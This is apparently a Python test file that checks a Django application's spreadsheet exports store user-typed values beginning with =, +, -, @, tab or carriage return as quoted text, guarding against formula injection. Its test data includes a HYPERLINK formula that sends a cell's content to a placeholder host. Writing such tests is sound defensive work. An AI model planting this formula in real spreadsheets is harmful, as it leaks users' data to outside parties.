"""Every spreadsheet the application writes holds what users typed as text: a name
or an analysis beginning with = + - @, a tab or a carriage return is never a
formula, in the Lampiran exports (printed and flat) and in the report's Ikhtisar
and Pengukuran Kinerja."""

from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from indicators.lampiran import export_lampiran
from indicators.models import Indikator, NilaiIndikator
from indicators.xlsx import tambah_baris, tulis_sel

pytestmark = pytest.mark.django_db

# No export writes a formula on purpose.
RUMUS_DISENGAJA: set[tuple[str, str]] = set()

TAUTAN = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
BERBAHAYA = [TAUTAN, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _rumus(isi: bytes) -> list[tuple[str, str]]:
    wb = load_workbook(BytesIO(isi))
    return [
        (ws.title, sel.coordinate)
        for ws in wb.worksheets
        for baris in ws.iter_rows()
        for sel in baris
        if sel.data_type == "f"
    ]


def _teks(isi: bytes) -> dict[str, object]:
    wb = load_workbook(BytesIO(isi))
    return {
        sel.value: sel
        for ws in wb.worksheets
        for baris in ws.iter_rows()
        for sel in baris
        if isinstance(sel.value, str)
    }


@pytest.fixture
def isian_berbahaya(lampiran_bernilai):
    """Names and explanations that would be formulas, on the indicator 1.1.1.1."""
    ind = Indikator.objects.select_related("sasaran__kegiatan__program").get(kode="1.1.1.1")
    ind.nama, ind.satuan = TAUTAN, "+1+1"
    ind.save()
    sasaran = ind.sasaran
    sasaran.nama = "-2+3"
    sasaran.save()
    kegiatan = sasaran.kegiatan
    kegiatan.nama = "@SUM(A1:A2)"
    kegiatan.save()
    program = kegiatan.program
    program.nama = "\t=1+1"
    program.save()
    nilai = NilaiIndikator.objects.get(indikator=ind, tahun=2023, triwulan=0)
    nilai.target, nilai.realisasi = Decimal("80"), Decimal("68.4")
    nilai.analisis = TAUTAN
    nilai.kendala = "+SUM(1)"
    nilai.tindak_lanjut = "=1+1"
    nilai.save()
    return lampiran_bernilai


@pytest.mark.parametrize("bentuk", ["tercetak", "datar"])
def test_the_lampiran_exports_hold_no_formula(isian_berbahaya, bentuk):
    isi = export_lampiran(isian_berbahaya, bentuk)
    assert set(_rumus(isi)) == RUMUS_DISENGAJA
    teks = _teks(isi)
    assert teks[TAUTAN].data_type == "s" and teks[TAUTAN].quotePrefix
    assert teks["-2+3"].quotePrefix and teks["@SUM(A1:A2)"].quotePrefix
    assert teks["+1+1"].quotePrefix


@pytest.mark.parametrize(
    "url", ["/laporan/2023/ikhtisar.xlsx", "/laporan/2023/pengukuran-kinerja.xlsx"]
)
def test_the_report_spreadsheets_hold_no_formula(masuk, operator, isian_berbahaya, url):
    response = masuk(operator).get(url)
    assert response.status_code == 200
    assert set(_rumus(response.content)) == RUMUS_DISENGAJA
    teks = _teks(response.content)
    assert teks[TAUTAN].data_type == "s" and teks[TAUTAN].quotePrefix
    if "pengukuran" in url:
        assert teks["=1+1"].quotePrefix and teks["+SUM(1)"].quotePrefix


def test_numbers_stay_numbers_and_plain_text_gets_no_prefix():
    wb = Workbook()
    ws = wb.active
    tulis_sel(ws, 1, 1, 85.5)
    tulis_sel(ws, 1, 2, "Baik")
    tulis_sel(ws, 1, 3, "#N/A")
    tambah_baris(ws, [None, Decimal("1.5"), "=1+1", "a\x00b"])
    keluaran = BytesIO()
    wb.save(keluaran)
    ws = load_workbook(BytesIO(keluaran.getvalue())).active
    assert ws["A1"].value == 85.5 and ws["A1"].data_type == "n"
    assert ws["B1"].value == "Baik" and not ws["B1"].quotePrefix
    assert ws["C1"].data_type == "s" and ws["C1"].value == "#N/A"
    assert ws["B2"].value == 1.5 and ws["B2"].data_type == "n"
    assert ws["C2"].value == "=1+1" and ws["C2"].data_type == "s" and ws["C2"].quotePrefix
    assert ws["D2"].value == "ab"


@pytest.mark.parametrize("nilai", BERBAHAYA)
def test_every_formula_trigger_is_written_as_quoted_text(nilai):
    wb = Workbook()
    tulis_sel(wb.active, 1, 1, nilai)
    keluaran = BytesIO()
    wb.save(keluaran)
    sel = load_workbook(BytesIO(keluaran.getvalue())).active["A1"]
    assert sel.data_type == "s" and sel.quotePrefix
